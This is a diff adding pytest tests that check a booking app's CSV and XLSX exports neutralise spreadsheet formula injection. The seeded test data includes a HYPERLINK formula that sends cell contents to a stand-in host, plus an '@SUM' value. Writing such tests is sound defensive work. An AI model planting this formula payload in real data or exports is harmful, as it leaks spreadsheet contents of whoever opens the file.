@@ -0,0 +1,32 @@
+import csv, io
+import pytest
+import exports
+
+FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"Click")'
+
+def seed_booking(db):
+    db.bookings.insert_one({"name": FORMULA, "phone": "+359888000000", "email": "ana@example.com",
+                            "check_in": "2030-01-10", "check_out": "2030-01-12", "guests": 2,
+                            "status": "Pending", "note": "@SUM(1+1)"})
+
+def exported(db, fmt):
+    stream, _ = exports.FORMATS[fmt]
+    return b"".join(stream("bookings", exports.iter_rows(db, "bookings", {})))
+
+def test_csv_escapes_formulas(db):
+    seed_booking(db)
+    header, row = list(csv.reader(io.StringIO(exported(db, "csv").decode("utf-8"))))
+    values = dict(zip(header, row))
+    assert values["Name"] == "'" + FORMULA
+    assert values["Note"] == "'@SUM(1+1)"
+    assert values["Guests"] == "2"
+
+def test_xlsx_stores_formulas_as_text(db):
+    openpyxl = pytest.importorskip("openpyxl")
+    seed_booking(db)
+    sheet = openpyxl.load_workbook(io.BytesIO(exported(db, "xlsx"))).active
+    header = [cell.value for cell in sheet[1]]
+    name = sheet.cell(row=2, column=header.index("Name") + 1)
+    assert name.value == FORMULA
+    assert name.data_type == "s"
+    assert sheet.cell(row=2, column=header.index("Guests") + 1).value == 2